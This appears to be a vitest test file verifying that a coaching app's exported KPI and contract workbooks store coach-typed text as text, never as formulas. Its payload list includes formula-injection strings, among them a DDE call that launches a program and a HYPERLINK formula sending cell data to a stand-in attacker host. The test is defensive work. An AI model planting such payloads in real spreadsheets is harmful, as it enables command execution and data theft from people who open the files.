// What a coach typed ends up in an exported workbook as text, never as a formula: a leader opening
// the file must not have "=cmd|' /C calc'!A0" run a program or "=HYPERLINK(…)" send data away.
// Checked for every workbook the app writes, read back with exceljs and opened in LibreOffice.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import ExcelJS from 'exceljs';
import { strFromU8 } from 'fflate';
import { buildKpiWorkbook } from '../../../renderer/metrics/kpi-workbook';
import { computeMetrics } from '../../../shared/metrics/metrics-report';
import { openTemplate } from '../../../renderer/documents/inspect-template';
import { fillTemplate } from '../../../renderer/documents/fill-template';
import { contractWorkbookData } from '../../../renderer/documents/build-data';
import { convertWithLibreOffice } from '../../../scripts/libreoffice';
import { NOW, RANGE, records, TIME_ZONE } from '../metrics/fixture';
import { context, contract, participant, uuid } from './fixtures';
import { bundledTemplate } from './template-builders';
import { loadWorkbook, unzip } from './read-back';

/** Cell text spreadsheets take for a formula or a DDE call when it is written as one. */
const payloads = [
  '=1+1',
  '+2+3',
  '-4+5',
  '@SUM(6;7)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://attacker.invalid/?"&A1;"Open")',
  '\t=8+9',
];

type WorkbookWriter = { name: string; write: (texts: string[]) => Promise<Uint8Array> };

const kpiReport = computeMetrics(records, {
  scope: { kind: 'everyone' },
  range: RANGE,
  baseline: { kind: 'first-two-weeks' },
  timeZone: TIME_ZONE,
  now: NOW,
});

function filledContract(texts: string[]): Uint8Array {
  const opened = openTemplate(bundledTemplate('Accountability-Contract.xlsx'), 'contract-workbook', 'contract.xlsx');
  if (!opened.ok) throw new Error(opened.error);
  const typed = {
    ...contract,
    title: texts[0],
    commitments: texts.map((text, i) => ({
      ...contract.commitments[i % contract.commitments.length],
      id: uuid(),
      text,
      acceptanceCriteria: text,
      owner: text,
    })),
  };
  const filled = fillTemplate(opened.value, contractWorkbookData(typed, participant, context), { locale: 'en-GB' });
  if (!filled.ok) throw new Error(filled.error);
  return filled.value;
}

/** Every workbook the app exports, each given texts a coach typed in the places they go. */
const writers: WorkbookWriter[] = [
  {
    name: 'the KPI workbook',
    write: (texts) =>
      buildKpiWorkbook({
        ...kpiReport,
        scopeLabel: texts[0],
        teams: texts.map((team, i) => ({ team, experiments: i, perMonth: 0 })),
      }),
  },
  { name: 'the contract workbook', write: async (texts) => filledContract(texts) },
];

/** Each cell holding one of `texts`, with how it is stored; and any formula that names one. */
async function cellsOf(bytes: Uint8Array, texts: string[]) {
  const workbook = await loadWorkbook(bytes);
  const found: { text: string; type: ExcelJS.ValueType; formula: string | undefined }[] = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        // A merged range keeps its value in its first cell; the others show it.
        if (cell.type === ExcelJS.ValueType.Merge) return;
        const shown = cell.formula ?? String(cell.value);
        const text = texts.find((typed) => shown === typed);
        if (text !== undefined) found.push({ text, type: cell.type, formula: cell.formula });
      }),
    ),
  );
  const sheets = Object.entries(unzip(bytes)).filter(([path]) => path.startsWith('xl/worksheets/sheet'));
  const formulas = sheets.flatMap(([, xml]) =>
    [...strFromU8(xml).matchAll(/<f\b[^>]*>([^<]*)<\/f>/g)].map((m) => m[1]),
  );
  return { found, formulas };
}

async function expectAllText(bytes: Uint8Array, texts: string[]) {
  const { found, formulas } = await cellsOf(bytes, texts);
  for (const text of texts) expect(found.map((cell) => cell.text)).toContain(text);
  for (const cell of found)
    expect(cell).toEqual({ text: cell.text, type: ExcelJS.ValueType.String, formula: undefined });
  for (const text of texts) expect(formulas).not.toContain(text.replace(/^[\s=+\-@]+/, ''));
}

/** The first sheet of each workbook as LibreOffice shows it once it has opened the file and
 * computed its formulas (one conversion for them all: LibreOffice is slow to start). */
function openedInLibreOffice(workbooks: Uint8Array[]): string[] {
  const dir = mkdtempSync(join(tmpdir(), 'followthrough-injection-'));
  try {
    const paths = workbooks.map((bytes, i) => {
      writeFileSync(join(dir, `export-${i}.xlsx`), bytes);
      return join(dir, `export-${i}.xlsx`);
    });
    convertWithLibreOffice(paths, 'csv', dir);
    return workbooks.map((_bytes, i) => readFileSync(join(dir, `export-${i}.csv`), 'utf8'));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const asCsv = (text: string) => text.replaceAll('"', '""');

describe.each(writers)('$name and formula injection', ({ write }) => {
  it('writes text that looks like a formula or a DDE call as text', async () => {
    await expectAllText(await write(payloads), payloads);
  });

  it('shows that text as typed in LibreOffice, nothing computed', { timeout: 60_000 }, async () => {
    // LibreOffice writes a formula's result to CSV, so the text as typed means nothing was computed.
    const shown = openedInLibreOffice(await Promise.all(payloads.map((payload) => write([payload]))));
    shown.forEach((csv, i) => expect(csv).toContain(asCsv(payloads[i])));
  });

  it('keeps any text a coach typed as a text cell', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          fc
            .tuple(fc.constantFrom('', '=', '+', '-', '@', '\t', ' ='), fc.string({ minLength: 1, unit: 'grapheme' }))
            .map(([start, rest]) => `${start}${rest}`),
          { minLength: 1, maxLength: 4 },
        ),
        async (texts) => expectAllText(await write(texts), texts),
      ),
      { numRuns: 25 },
    );
  });
});
